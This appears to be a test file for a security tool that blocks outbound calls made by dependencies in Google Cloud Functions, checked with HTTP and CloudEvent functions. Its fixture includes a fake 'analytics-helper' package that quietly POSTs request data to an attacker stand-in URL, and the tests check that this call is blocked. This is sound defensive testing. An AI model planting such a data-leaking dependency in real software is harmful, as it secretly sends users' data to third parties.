/**
 * Google Cloud Functions through `perimeter/gcf`, served by the real `@google-cloud/functions-framework` on loopback
 * in a process with the preload: an HTTP function and a CloudEvent function (binary-mode CloudEvent over HTTP, as
 * Eventarc delivers it). The function's own charge goes through; a dependency's exfiltration is blocked and named
 * after the framework's execution id / the CloudEvent id.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { PACKAGE_ROOT, runGuarded, startRecordingServer, writeTree } from '../helpers.js';

type Server = Awaited<ReturnType<typeof startRecordingServer>>;

// Inside the repository, so that the framework and its dependencies (express…) in the repository's node_modules
// are where a deployed function's would be: in a node_modules folder above the function (the fs defaults let a
// function read those).
function functionFolder(files: Record<string, string>): string {
  const dir = mkdtempSync(join(PACKAGE_ROOT, 'build', 'tmp-gcf-'));
  writeTree(dir, {
    'node_modules/analytics-helper/package.json': '{"name":"analytics-helper","main":"index.js"}',
    'node_modules/analytics-helper/index.js': `const http = require('node:http');
module.exports = (data) => new Promise((resolve) => {
  const req = http.request(process.env.EXFIL_URL + '/collect', { method: 'POST' }, (res) => { res.resume(); resolve('sent'); });
  req.on('error', (e) => resolve(e.code || e.message));
  req.end(JSON.stringify(data));
});`,
    ...files,
  });
  return dir;
}

const MAIN = `const http = require('node:http');
const functions = require('@google-cloud/functions-framework');
const { getTestServer } = require('@google-cloud/functions-framework/testing');
const { guardHttp, guardCloudEvent } = require('perimeter/gcf');
const track = require('analytics-helper');
const [HTTP_PORT, EVENT_PORT] = process.argv.slice(2).map(Number);

const charge = (amount) => new Promise((resolve, reject) => {
  const req = http.request(process.env.STRIPE_URL + '/v1/charges', { method: 'POST' }, (res) => { res.resume(); resolve(res.statusCode); });
  req.on('error', reject);
  req.end('amount=' + amount);
});

functions.http('checkout', guardHttp(async (req, res) => {
  const result = { charge: await charge(req.body.amount), exfil: await track(req.body) };
  res.json({ ...result, executionId: req.executionId });
}, { name: 'checkout' }));

const seen = [];
functions.cloudEvent('onUpload', guardCloudEvent(async (cloudEvent) => {
  seen.push(await track(cloudEvent.data));
}, { name: 'on-upload' }));

const servers = [getTestServer('checkout'), getTestServer('onUpload')];
let remaining = 3;
for (const server of servers) {
  server.on('request', (req, res) => res.on('finish', () => {
    if (--remaining === 0) {
      console.log(JSON.stringify({ seen }));
      for (const s of servers) s.close();
    }
  }));
}
servers[0].listen(HTTP_PORT, '127.0.0.1');
servers[1].listen(EVENT_PORT, '127.0.0.1');
`;

async function freePort(): Promise<number> {
  const server = net.createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as net.AddressInfo;
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

async function post(
  port: number,
  headers: Record<string, string>,
  body: string,
): Promise<{ status: number; body: string }> {
  for (let attempt = 0; ; attempt++) {
    try {
      const res = await fetch(`http://127.0.0.1:${port}/`, { method: 'POST', headers, body });
      return { status: res.status, body: await res.text() };
    } catch (error) {
      if (attempt > 100) throw error;
      await sleep(50); // the framework is still starting
    }
  }
}

describe('perimeter/gcf with @google-cloud/functions-framework', () => {
  let stripe: Server;
  let exfil: Server;
  let run: Awaited<ReturnType<typeof runGuarded>>;
  const replies: Array<{ status: number; body: string }> = [];

  before(async () => {
    [stripe, exfil] = await Promise.all([startRecordingServer(), startRecordingServer()]);
    const [httpPort, eventPort] = [await freePort(), await freePort()];
    const running = runGuarded({
      dir: functionFolder({ 'main.cjs': MAIN }),
      policy: {
        mode: 'block',
        network: { allow: ['https://api.stripe.com', `POST http://127.0.0.1:${stripe.port}/v1/charges`] },
        env: { allow: ['STRIPE_URL', 'EXFIL_URL'] },
      },
      script: 'main.cjs',
      args: [String(httpPort), String(eventPort)],
      env: { STRIPE_URL: stripe.url, EXFIL_URL: exfil.url },
      timeoutMs: 30_000,
    });
    const json = { 'content-type': 'application/json' };
    replies.push(await post(httpPort, { ...json, 'function-execution-id': 'exec-1' }, '{"amount":5}'));
    replies.push(await post(httpPort, { ...json, 'x-cloud-trace-context': 'trace0001/1;o=1' }, '{"amount":6}'));
    const cloudEvent = {
      ...json,
      'ce-id': 'evt-1',
      'ce-specversion': '1.0',
      'ce-type': 'google.cloud.storage.object.v1.finalized',
      'ce-source': '//storage.googleapis.com/projects/_/buckets/uploads',
    };
    replies.push(await post(eventPort, cloudEvent, '{"name":"invoice.pdf"}'));
    run = await running;
  });
  after(async () => {
    await Promise.all([stripe.close(), exfil.close()]);
    if (run) rmSync(run.dir, { recursive: true, force: true });
  });

  // The framework (express) awaits the function, so it is on every stack the function's code produces (`package`
  // names the outermost); `packages` lists the dependency that made the call.
  const exfilEvent = (invocation: string) =>
    run.events.find((e) => e.packages?.includes('analytics-helper') && e.invocation === invocation) ??
    run.events.find((e) => e.package === 'analytics-helper' && e.invocation === invocation);

  test('HTTP: the charge goes through; the exfiltration is blocked and named after the execution id', () => {
    assert.equal(run.code, 0, run.stderr);
    const bodies = replies.slice(0, 2).map((r) => ({ status: r.status, ...JSON.parse(r.body) }));
    // The Function-Execution-Id header when the platform sends one; otherwise the id the framework generates (the
    // one its own structured logs carry as execution_id).
    assert.equal(bodies[0]!.executionId, 'exec-1');
    assert.match(bodies[1]!.executionId, /^\w{6,}$/);
    for (const body of bodies) {
      assert.deepEqual([body.status, body.charge, body.exfil], [200, 200, 'ERR_PERIMETER_BLOCKED']);
      const event = exfilEvent(body.executionId);
      assert.ok(event, `no event for ${body.executionId}: ${JSON.stringify(run.events)}`);
      assert.equal(event.function, 'checkout');
      assert.equal(event.action, 'blocked');
    }
  });

  test('CloudEvent: blocked and named after the event id', () => {
    assert.ok(replies[2]!.status < 300, replies[2]!.body);
    assert.match(run.stdout, /"seen":\["ERR_PERIMETER_BLOCKED"\]/);
    assert.equal(exfilEvent('evt-1')?.function, 'on-upload');
  });

  test('nothing reached the attacker; both charges reached "Stripe"', () => {
    assert.equal(exfil.connections, 0);
    assert.equal(stripe.requests.length, 2);
  });
});
